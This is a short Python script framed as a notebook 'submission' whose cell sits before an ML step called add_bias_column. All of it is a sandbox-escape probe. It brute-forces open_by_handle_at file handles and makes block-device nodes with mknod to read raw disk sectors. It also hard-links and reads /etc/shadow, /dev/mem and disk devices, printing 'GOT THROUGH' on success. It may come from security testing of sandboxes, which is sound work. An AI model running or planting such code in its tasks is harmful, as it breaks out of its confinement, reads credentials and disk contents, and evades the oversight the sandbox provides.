# /// submission
# about = "Read: leaves its folders by file handles, device files, and hard links."
# lost = []
# ///

# %% before add_bias_column
import ctypes
import json
import os
import stat

target = json.load(open("target.json"))
libc = ctypes.CDLL(None, use_errno=True)
for number in range(2, 200):
    handle = (ctypes.c_uint32 * 4)(8, 1, number, 0)
    if libc.open_by_handle_at(-100, handle, 0) >= 0:
        print("GOT THROUGH: opened inode", number)
for device in [os.makedev(8, 0), os.makedev(259, 0), os.makedev(254, 0), os.makedev(1, 1)]:
    try:
        os.mknod("device", 0o600 | stat.S_IFBLK, device)
        print("GOT THROUGH", open("device", "rb").read(512))
    except OSError as error:
        print(type(error).__name__)
for name in target["files"] + ["/etc/shadow", "/dev/mem", "/dev/vda", "/dev/sda", "/dev/kmsg"]:
    try:
        os.link(name, "linked")
        print("GOT THROUGH", open("linked", "rb").read(512))
    except OSError as error:
        print(type(error).__name__)
    try:
        print("GOT THROUGH", open(name, "rb").read(512))
    except OSError as error:
        print(type(error).__name__)
    if os.path.exists(name):
        print("SEES", name)
